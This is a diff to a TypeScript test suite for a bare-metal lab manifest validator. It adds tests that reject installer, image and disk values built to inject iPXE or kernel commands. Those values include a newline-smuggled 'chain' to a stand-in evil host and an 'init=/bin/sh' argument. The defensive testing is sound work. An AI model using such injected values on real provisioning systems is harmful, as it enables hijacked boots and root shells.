@@ -83,6 +83,17 @@ function dropLines(text: string, needle: string): string {
 
 const FILE = 'lab.yaml';
 
+/**
+ * The text without its BMC sections. Outside the lab profile, BMC credentials files must exist (the
+ * lab generates its own): tests about the OS profile alone give no BMC access.
+ */
+function noBmc(text: string): string {
+  return text
+    .split('\n')
+    .filter((l) => !/^\s*bmc: \{/.test(l))
+    .join('\n');
+}
+
 /** Loads the text as lab.yaml in a temp folder; expects it to be rejected and returns the errors. */
 function errorsOf(text: string): Diagnostic[] {
   const result = loadText(text, FILE);
@@ -1165,14 +1176,6 @@ describe('addresses and keys', () => {
 });
 
 describe('OS profile', () => {
-  // Outside the lab profile, BMC credentials files must exist (the lab generates its own): these
-  // tests are about the OS profile alone, so their manifests give no BMC access.
-  const noBmc = (text: string) =>
-    text
-      .split('\n')
-      .filter((l) => !/^\s*bmc: \{/.test(l))
-      .join('\n');
-
   it('reports a custom profile without an image or an installer at the os section', () => {
     const text = edit(noBmc(lab), 'profile: lab-debian', 'profile: custom');
     const errors = errorsOf(text);
@@ -1229,6 +1232,76 @@ describe('OS profile', () => {
   });
 });
 
+describe('installer and image URLs', () => {
+  const KERNEL = 'https://images.example.test/vmlinuz';
+  const INITRD = 'https://images.example.test/initrd.img';
+  const IMAGE = 'https://images.example.test/debian.raw.gz';
+  /** A custom profile whose installer and image come from the given URLs (YAML double-quoted). */
+  const custom = (kernel: string, initrd = INITRD, image = IMAGE) =>
+    edit(
+      noBmc(lab),
+      'profile: lab-debian\n',
+      [
+        'profile: custom',
+        `  image: { source: ${JSON.stringify(image)}, sha256: '${'0'.repeat(64)}' }`,
+        '  installer:',
+        `    kernel: ${JSON.stringify(kernel)}`,
+        `    initrd: ${JSON.stringify(initrd)}`,
+        "  sshAuthorizedKeys: ['ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl sre']",
+        '',
+      ].join('\n'),
+    );
+
+  it('accepts http and https URLs with percent-encoded characters (the baseline)', () => {
+    const text = custom('http://images.example.test/a%20b/vmlinuz?v=1&x=$y');
+    const result = loadText(text, FILE);
+    expect(result.diagnostics.map((d) => formatDiagnostic(d))).toEqual([]);
+    expect(result.ok).toBe(true);
+  });
+
+  it('reports a kernel URL with a newline that would add an iPXE command, at its line', () => {
+    const text = custom(`${KERNEL}\nchain http://evil.example.test/x`);
+    expectOnlyError(text, {
+      code: 'invalid-url',
+      line: lineOf(text, 'kernel: "'),
+      path: 'os.installer.kernel',
+      message: `${JSON.stringify(`${KERNEL}\nchain http://evil.example.test/x`)} holds a newline, which would split the boot script's command`,
+      hint: 'give an http:// or https:// URL with its special characters percent-encoded (a space is %20), or a path beside the manifest',
+    });
+  });
+
+  it('reports an initrd URL with an iPXE setting expansion, and an image URL with a space, all at once', () => {
+    const text = custom(KERNEL, `${INITRD}?\${net0/mac}`, 'https://images.example.test/my image.raw.gz');
+    const errors = errorsOf(text);
+    expect(codes(errors)).toEqual(['invalid-url', 'invalid-url']);
+    const [image, initrd] = [...errors].sort((a, b) => a.position.line - b.position.line);
+    expect(formatPath(image!.path)).toBe('os.image.source');
+    expect(image!.position.line).toBe(lineOf(text, 'my image.raw.gz'));
+    expect(image!.message).toContain("holds a space, which would split the boot script's command");
+    expect(formatPath(initrd!.path)).toBe('os.installer.initrd');
+    expect(initrd!.position.line).toBe(lineOf(text, 'initrd: "'));
+    expect(initrd!.message).toContain('holds "${", which iPXE expands as a setting');
+  });
+
+  it('reports a URL of another scheme instead of looking for it as a file, and quotes and control characters', () => {
+    const errors = errorsOf(custom('ftp://images.example.test/vmlinuz', `${INITRD}"`));
+    expect(errors.map((d) => [formatPath(d.path), d.code, d.message])).toEqual([
+      [
+        'os.installer.kernel',
+        'invalid-url',
+        '"ftp://images.example.test/vmlinuz" is a ftp: URL; nodes fetch over http or https only',
+      ],
+      [
+        'os.installer.initrd',
+        'invalid-url',
+        `${JSON.stringify(`${INITRD}"`)} holds ", which a boot script would not pass on as it is`,
+      ],
+    ]);
+    const tab = one(errorsOf(custom(`${KERNEL}\u0007`)), 'invalid-url');
+    expect(tab.message).toContain('holds the control character U+0007');
+  });
+});
+
 describe('hardware catalog', () => {
   /** Writes lab.yaml with an extra catalog folder `hw` holding `files`, and loads it. */
   function withCatalog(files: Record<string, string>, change: (t: string) => string = (t) => t) {
@@ -1272,6 +1345,31 @@ describe('hardware catalog', () => {
     expect(d.message).toMatch(/^catalog entry bad-sku\.yaml: /);
     expect(formatPath(d.path)).toBe('firmware');
     expect(result.diagnostics).toHaveLength(1);
+  });
+
+  it('reports a SKU install disk that would add kernel arguments, at its line', () => {
+    const sku = (disk: string) =>
+      [
+        'kind: NodeSku',
+        'name: odd-disk',
+        'vendor: Example',
+        'firmware: uefi',
+        `disk: ${disk}`,
+        'nics:',
+        '  - { name: nic0, speed: 25000 }',
+        '',
+      ].join('\n');
+    for (const disk of ['"/dev/sda init=/bin/sh"', '"/dev/sda\\nshell"', "'/dev/${net0/mac}'", 'sda']) {
+      const { result } = withCatalog({ 'odd-disk.yaml': sku(disk) });
+      expect(result.ok).toBe(false);
+      const d = one(result.diagnostics, 'catalog-schema');
+      expect(formatPath(d.path)).toBe('disk');
+      expect(d.position.line).toBe(lineOf(sku(disk), 'disk:'));
+      expect(d.message).toContain('must be a device path such as /dev/sda');
+    }
+    expect(
+      withCatalog({ 'odd-disk.yaml': sku('/dev/disk/by-id/nvme-EXAMPLE_SSD_1TB_S4EWNX0R123456') }).result.ok,
+    ).toBe(true);
   });
 
   it('reports a ToR whose model names no MCLAG peer-link ports, at its model', () => {
